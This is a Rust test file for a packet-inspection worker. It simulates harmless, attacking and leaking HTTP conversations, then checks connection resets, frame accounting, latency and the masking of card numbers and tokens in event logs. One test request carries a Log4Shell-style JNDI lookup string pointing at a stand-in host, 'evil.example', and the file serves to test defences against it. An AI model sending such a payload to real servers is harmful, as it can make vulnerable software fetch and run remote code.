//! A worker over queues in memory: what goes in comes out, is dropped for a reason, or cuts its connection.

mod bypassed;
mod settled;
mod shared;

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;

use dataplane::event::{Dropped, Event, Owner, ThreatSeen};
use dataplane::flow::Direction;
use dataplane::pipeline::Counters;
use dataplane::policy::Settings;
use dataplane::verdict::DropReason;
use dlp_patterns::{Pack, RuleSet, default_packs};

use super::*;
use crate::config::EventTypes;
use crate::eve::EveFormat;
use crate::port::MemoryQueue;
use crate::sample::Conversation;

const CONVERSATIONS: u16 = 100;
/// Of three conversations one is harmless, one begins with an attack, and in one the answer is a leak.
const KINDS: u16 = 3;
const ATTACK: u16 = 1;
const LEAK: u16 = 2;
const FIRST_CLIENT_PORT: u16 = 40_000;
/// Where an untagged frame of IPv4 without options has its TCP header.
const TCP_OFFSET: usize = 14 + 20;

/// Event lines by flow identifier: the order between flows is none of a worker's promises.
#[derive(Debug, Default)]
struct Lines(BTreeMap<u64, Vec<u8>>);

impl EventSink for Lines {
    fn emit(&mut self, event: Event<'_>) {
        let flow = match event {
            Event::Alert(alert) => alert.flow.id,
            Event::Drop(Dropped { owner, .. }) | Event::Threat(ThreatSeen { owner, .. }) => match owner {
                Owner::Flow { record, .. } => record.id,
                Owner::Nobody { .. } => 0,
            },
            Event::Flow(end) => end.flow.id,
            Event::Http(end) => end.flow.id,
            Event::HttpFile(end) => end.flow.id,
            Event::App(told) => told.flow.id,
            Event::Anomaly(anomaly) => anomaly.flow.id,
        };
        let lines = self.0.entry(flow).or_default();
        EveFormat::new(EventTypes::ALL, Vec::new()).event(&event, lines);
    }
}

/// The frames of one conversation, and the port that each arrives at.
fn conversation(index: u16) -> Vec<(Port, Vec<u8>)> {
    let request: &[u8] = match index % KINDS {
        ATTACK => b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: www.example\r\n\r\n",
        _ => b"GET /page HTTP/1.1\r\nHost: www.example\r\n\r\n",
    };
    let response: &[u8] = match index % KINDS {
        LEAK => b"HTTP/1.1 200 OK\r\nContent-Length: 19\r\n\r\n4111 1111 1111 1111",
        _ => b"HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nHello, world.",
    };
    let client = SocketAddr::from(([192, 0, 2, 1], FIRST_CLIENT_PORT + index));
    let server = SocketAddr::from(([198, 51, 100, 1], 80));
    let mut both = Conversation::new([client, server], &[]);
    both.open();
    both.send(Direction::ToServer, request);
    both.acknowledge(Direction::ToClient);
    both.send(Direction::ToClient, response);
    both.acknowledge(Direction::ToServer);
    both.close();
    both.into_frames().into_iter().map(|frame| (arrival(&frame), frame)).collect()
}

/// Frames of clients arrive inside.
fn arrival(frame: &[u8]) -> Port {
    match port_at(frame, TCP_OFFSET) {
        Some(port) if port >= FIRST_CLIENT_PORT => Port::Inside,
        _ => Port::Outside,
    }
}

fn port_at(frame: &[u8], offset: usize) -> Option<u16> {
    frame.get(offset..)?.first_chunk().map(|port| u16::from_be_bytes(*port))
}

/// What a worker did with all conversations, step by step side by side, so that batches are full.
struct Outcome {
    frames: u64,
    counters: Counters,
    latency: Latency,
    lines: Lines,
    left: [Vec<Vec<u8>>; 2],
}

fn run(batch_frames: usize, refuse: usize) -> Outcome {
    let rules = Arc::new(RuleSet::compile(&default_packs()).expect("the packs compile"));
    let settings = Settings { flows_max: 1024, ..Settings::default() };
    let queue = MemoryQueue { batch_frames, refuse, ..MemoryQueue::default() };
    let mut worker = Worker::new(queue, Pipeline::new(settings, rules), Lines::default(), 0);
    let conversations: Vec<_> = (0..CONVERSATIONS).map(conversation).collect();
    let mut frames = 0;
    for step in 0..conversations[0].len() {
        for (port, frame) in conversations.iter().map(|frames| &frames[step]) {
            worker.io().arriving[*port as usize].push_back(frame.clone());
            frames += 1;
        }
        while worker.turn(1_000_000_000 + step as u64) > 0 {}
        let Counters { frames_in, forwarded, .. } = *worker.pipeline().counters();
        let dropped = worker.pipeline().counters().dropped_total();
        assert_eq!((frames_in, forwarded + dropped), (frames, frames), "the books balance at every step");
    }
    let left = std::mem::take(&mut worker.io().left);
    let latency = std::mem::take(worker.latency());
    let (pipeline, lines) = finish(worker, 2_000_000_000);
    Outcome { frames, counters: *pipeline.counters(), latency, lines, left }
}

/// Ends all flows and hands back the books.
fn finish(worker: Worker<MemoryQueue, Lines>, now_ns: u64) -> (Pipeline, Lines) {
    let (mut io, mut pipeline, mut lines) = worker.into_parts();
    pipeline.finish(now_ns, &mut lines);
    pipeline.take_back(|flows| io.unsettle(flows, now_ns), &mut lines);
    (pipeline, lines)
}

/// What left a port, by client port and in order: the order between connections is none of a worker's promises.
fn by_connection(left: &[Vec<u8>]) -> BTreeMap<u16, Vec<&[u8]>> {
    let mut connections = BTreeMap::<u16, Vec<&[u8]>>::new();
    for frame in left {
        let ports = [TCP_OFFSET, TCP_OFFSET + 2].map(|offset| port_at(frame, offset));
        let client = ports.into_iter().flatten().max().expect("a TCP frame");
        connections.entry(client).or_default().push(frame);
    }
    connections
}

fn is_reset(frame: &[u8]) -> bool {
    frame.get(TCP_OFFSET + 13).is_some_and(|flags| flags & 0x04 != 0)
}

#[test]
fn one_by_one_is_as_in_batches() {
    let single = run(1, 0);
    assert!(single.counters.alerts > 0 && single.counters.resets > 0, "{:?}", single.counters);
    for batch_frames in [7, 64] {
        let batched = run(batch_frames, 0);
        assert_eq!(single.counters, batched.counters);
        assert_eq!(single.lines.0, batched.lines.0);
        for port in Port::BOTH {
            let [single, batched] = [&single, &batched].map(|outcome| &outcome.left[port as usize]);
            assert_eq!(by_connection(single), by_connection(batched), "{port:?}, batches of {batch_frames}");
        }
    }
}

#[test]
fn no_frame_is_lost_or_made_up() {
    let Outcome { frames, counters, left, .. } = run(64, 0);
    assert_eq!(counters.frames_in, frames);
    assert_eq!(counters.forwarded + counters.dropped_total(), frames);
    let out = left.iter().map(Vec::len).sum::<usize>() as u64;
    assert_eq!(out, counters.forwarded + counters.injected);
    let sent: Vec<Vec<u8>> = (0..CONVERSATIONS).flat_map(conversation).map(|(_, frame)| frame).collect();
    let strange = left.iter().flatten().find(|frame| !is_reset(frame) && !sent.contains(frame));
    assert_eq!(strange, None, "what is no reset came in as it leaves");
}

#[test]
fn each_frame_is_timed_once_in_each_stage_that_it_comes_to() {
    let Outcome { frames, counters, latency, .. } = run(64, 3);
    let timed = Stage::ALL.map(|stage| latency.frames(stage));
    assert_eq!(timed, [frames, counters.forwarded, counters.forwarded]);
    let [judge, transit] = [Stage::Judge, Stage::Transit].map(|stage| latency.percentile_ns(stage, 100.0));
    assert!(judge <= transit, "{judge} {transit}");
}

#[test]
fn a_connection_that_is_cut_is_reset_at_both_ports() {
    let Outcome { counters, left, .. } = run(64, 0);
    for index in 0..CONVERSATIONS {
        let cut = index % KINDS != 0;
        for port in Port::BOTH {
            let connections = by_connection(&left[port as usize]);
            let frames = &connections[&(FIRST_CLIENT_PORT + index)];
            let resets = frames.iter().filter(|frame| is_reset(frame)).count();
            assert_eq!(resets, usize::from(cut), "conversation {index} at {port:?}");
            assert!(!cut || frames.last().is_some_and(|frame| is_reset(frame)), "nothing follows a reset");
        }
    }
    assert_eq!((counters.injected, counters.injections_failed), (2 * counters.resets, 0));
}

#[test]
fn what_finds_no_room_is_dropped_as_egress() {
    let Outcome { frames, counters, left, .. } = run(64, 3);
    let egress = counters.dropped[DropReason::Egress as usize];
    // Each of the ten steps is two batches, and of each more than three frames are to be forwarded.
    assert_eq!(egress, 10 * 2 * 3);
    assert_eq!(counters.forwarded + counters.dropped_total(), frames);
    let forwarded = left.iter().flatten().filter(|frame| !is_reset(frame)).count() as u64;
    assert_eq!(forwarded, counters.forwarded, "what was counted as forwarded left");
}

const MASKED: &str = "
[pack]
name = 'masked'
version = '1'
description = 'only told of'
[[rule]]
id = 1
name = 'Card'
action = 'alert'
severity = 3
category = 'test'
fields = ['http.uri', 'http.headers']
regex = '4111 ?1111[0-9]{8}'
mask = 'card'
examples = { positive = ['4111111111111111'], negative = ['4111'] }
[[rule]]
id = 2
name = 'Token'
action = 'alert'
severity = 3
category = 'test'
fields = ['http.headers']
regex = 'User-Agent: token-[a-z]{8}'
mask = 'secret'
examples = { positive = ['User-Agent: token-abcdefgh'], negative = ['token'] }
";

#[test]
fn no_event_repeats_what_alerts_mask() {
    let requests: [&[&[u8]]; 3] = [
        &[
            b"GET /pay?card=4111111111111111&n=1 HTTP/1.1\r\nHost: shop.example\r\n",
            b"Referer: http://shop.example/?card=41111111111",
            b"11111\r\nUser-Agent: token-abcdefgh/1.0\r\n\r\n",
        ],
        &[b"GET /pay?card=%34111+1111", b"11111111 HTTP/1.1\r\nHost: shop.example\r\n\r\n"],
        &[b"GET /plain?card=none HTTP/1.1\r\nHost: shop.example\r\n\r\n"],
    ];
    let ends = [([192, 0, 2, 1], 40_000), ([198, 51, 100, 1], 80)].map(SocketAddr::from);
    let mut both = Conversation::new(ends, &[]);
    both.open();
    for request in requests {
        request.iter().for_each(|piece| both.send(Direction::ToServer, piece));
        let response = b"HTTP/1.1 302 Found\r\nLocation: /?4111111111111111\r\nContent-Length: 0\r\n\r\n";
        both.send(Direction::ToClient, response);
    }
    both.close();
    let pack = Pack::parse("masked", MASKED).expect("a pack");
    let rules = Arc::new(RuleSet::compile(&[pack]).expect("it compiles"));
    let pipeline = Pipeline::new(Settings { flows_max: 1024, ..Settings::default() }, rules);
    let mut worker = Worker::new(MemoryQueue::default(), pipeline, Lines::default(), 0);
    for (at, frame) in both.into_frames().into_iter().enumerate() {
        worker.io().arriving[arrival(&frame) as usize].push_back(frame);
        worker.turn(1_000_000_000 + at as u64);
    }
    let (_, lines) = finish(worker, 2_000_000_000);
    let text = String::from_utf8(lines.0.into_values().flatten().collect()).expect("UTF-8");
    for secret in ["4111111111111111", "4111+111111111111", "token-abcdefgh"] {
        assert!(!text.contains(secret), "{secret}: {text}");
    }
    let https: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .filter(|event: &serde_json::Value| event["event_type"] == "http")
        .map(|event| event["http"].clone())
        .collect();
    assert_eq!(https.len(), 3);
    let (masked, card) = (&https[0], "411111******1111");
    assert_eq!(masked["url"], format!("/pay?card={card}&n=1"));
    assert_eq!(masked["http_refer"], format!("http://shop.example/?card={card}"));
    assert_eq!((&masked["http_user_agent"], &masked["hostname"]), (&"*".into(), &"shop.example".into()));
    assert!(https.iter().all(|http| http["redirect"] == format!("/?{card}")), "{https:?}");
    assert_eq!(https[1]["url"], "*", "it is there in another spelling");
    assert_eq!(
        https[2]["url"], "/plain?card=none",
        "another transaction's secret is no concern of this one's"
    );
}
